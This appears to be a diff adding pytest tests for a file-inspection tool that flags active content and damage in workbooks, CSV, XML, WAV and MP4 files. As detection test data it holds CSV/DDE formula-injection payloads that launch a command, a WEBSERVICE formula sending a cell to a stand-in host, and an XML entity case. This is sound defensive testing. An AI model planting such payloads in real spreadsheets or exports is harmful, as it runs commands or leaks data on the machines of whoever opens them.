@@ -1,0 +1,165 @@
+"""Office documents, tables and recordings: what acts in them is found, what is cut off is told, what is whole passes."""
+
+import io
+import struct
+import wave
+import zipfile
+
+import openpyxl
+import pytest
+
+from archive.inspection.fence import Fence
+
+RELATIONS = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    "{}</Relationships>"
+)
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@pytest.fixture(scope="module")
+def fence():
+    with Fence() as fence:
+        yield fence
+
+
+def workbook(**parts):
+    """A workbook as openpyxl writes it, with these parts besides."""
+    book, buffer = openpyxl.Workbook(), io.BytesIO()
+    book.active["A1"] = "工资"
+    book.save(buffer)
+    with zipfile.ZipFile(buffer, "a") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def kinds(data, name, fence, tmp_path):
+    path = tmp_path / name
+    path.write_bytes(data)
+    report = fence.call("probe", path=str(path), name=name)
+    return {fault["kind"] for fault in report["faults"]}, report
+
+
+def sheet(formula):
+    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
+
+
+@pytest.mark.parametrize(
+    ("formula", "found"),
+    [
+        ("SUM(A1:A9)", False),
+        ("cmd|' /C calc'!A0", True),
+        ("DDE(&quot;cmd&quot;;&quot;/C calc&quot;)", True),
+        ("WEBSERVICE(&quot;http://x/&quot;&amp;A1)", True),
+    ],
+)
+def test_a_formula_that_acts_is_found_and_one_that_adds_is_not(formula, found, fence, tmp_path):
+    said, _ = kinds(workbook(**{"xl/worksheets/sheet2.xml": sheet(formula)}), "a.xlsx", fence, tmp_path)
+    assert ("formula" in said) is found
+
+
+@pytest.mark.parametrize(
+    ("kind", "found"),
+    [("hyperlink", "link"), ("attachedTemplate", "external-file"), ("oleObject", "external-file")],
+)
+def test_what_a_document_takes_from_outside_is_named(kind, found, fence, tmp_path):
+    relation = (
+        f'<Relationship Id="r2" Type="{OFFICE}/{kind}" Target="http://example.org/x" TargetMode="External"/>'
+    )
+    said, _ = kinds(
+        workbook(**{"xl/worksheets/_rels/sheet1.xml.rels": RELATIONS.format(relation)}),
+        "a.xlsx",
+        fence,
+        tmp_path,
+    )
+    assert found in said
+
+
+def test_entities_in_a_part_of_a_document_are_refused(fence, tmp_path):
+    said, _ = kinds(
+        workbook(**{"xl/evil.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "a.xlsx", fence, tmp_path
+    )
+    assert "doctype" in said
+
+
+def test_an_ordinary_workbook_is_whole(fence, tmp_path):
+    said, report = kinds(workbook(), "a.xlsx", fence, tmp_path)
+    assert said == set() and report["kind"] == "office"
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("姓名,金额\n张三,-12.50\n李四,+3\n", False),
+        ('姓名,金额\n=HYPERLINK("http://x"),1\n', True),
+        ("姓名,金额\n张三,@SUM(A1)\n", True),
+        ("姓名,金额\n张三,\"=cmd|' /C calc'!A0\"\n", True),
+        ("邮箱\nzhang@example.org\n", False),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_compute_is_found(text, found, fence, tmp_path):
+    said, _ = kinds(text.encode(), "a.csv", fence, tmp_path)
+    assert ("formula" in said) is found
+
+
+@pytest.mark.parametrize(("text", "found"), [("<a><b/></a>", False), ("<a><b></a>", True), ("<a>", True)])
+def test_xml_that_is_none_is_told(text, found, fence, tmp_path):
+    said, _ = kinds(f'<?xml version="1.0"?>{text}'.encode(), "a.xml", fence, tmp_path)
+    assert ("bad-xml" in said) is found
+
+
+def sound(seconds=1):
+    buffer = io.BytesIO()
+    with wave.open(buffer, "wb") as file:
+        file.setparams((1, 2, 8000, 0, "NONE", ""))
+        file.writeframes(b"\0\1" * 8000 * seconds)
+    return buffer.getvalue()
+
+
+def test_a_recording_is_told_with_length_and_codec(fence, tmp_path):
+    said, report = kinds(sound(2), "a.wav", fence, tmp_path)
+    assert said == set() and report["details"]["seconds"] == 2 and "PCM" in report["details"]["codec"]
+
+
+def test_a_recording_that_was_cut_off_is_told(fence, tmp_path):
+    said, _ = kinds(sound(2)[:9000], "a.wav", fence, tmp_path)
+    assert "damaged" in said
+
+
+def box(name, content=b""):
+    return struct.pack(">I4s", len(content) + 8, name) + content
+
+
+def film(seconds=3):
+    header = struct.pack(">IIIII", 0, 0, 0, 1000, seconds * 1000) + b"\0" * 80
+    track = box(b"trak", box(b"mdia", box(b"minf", box(b"stbl", box(b"stsd", struct.pack(">II", 0, 1) + box(b"avc1", b"\0" * 70))))))  # fmt: skip
+    return (
+        box(b"ftyp", b"isom\0\0\0\1isommp42")
+        + box(b"moov", box(b"mvhd", header) + track)
+        + box(b"mdat", b"\0" * 5000)
+    )
+
+
+def test_a_film_is_told_with_length_and_codec(fence, tmp_path):
+    said, report = kinds(film(), "a.mp4", fence, tmp_path)
+    assert said == set() and (report["details"]["seconds"], report["details"]["codec"]) == (3.0, "avc1")
+
+
+@pytest.mark.parametrize(
+    ("change", "found"),
+    [
+        (lambda data: data[:-2000], "damaged"),
+        (lambda data: data[:24], "unreadable"),
+        (lambda data: data[:28] + b"\0\0\0\3" + data[32:], "unreadable"),
+    ],
+)
+def test_a_film_that_is_cut_or_confused_is_told(change, found, fence, tmp_path):
+    said, _ = kinds(change(film()), "a.mp4", fence, tmp_path)
+    assert found in said
+
+
+@pytest.mark.parametrize("name", ["a.doc", "a.xls"])
+def test_an_old_document_that_is_none_inside_is_told(name, fence, tmp_path):
+    said, _ = kinds(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, name, fence, tmp_path)
+    assert "unreadable" in said
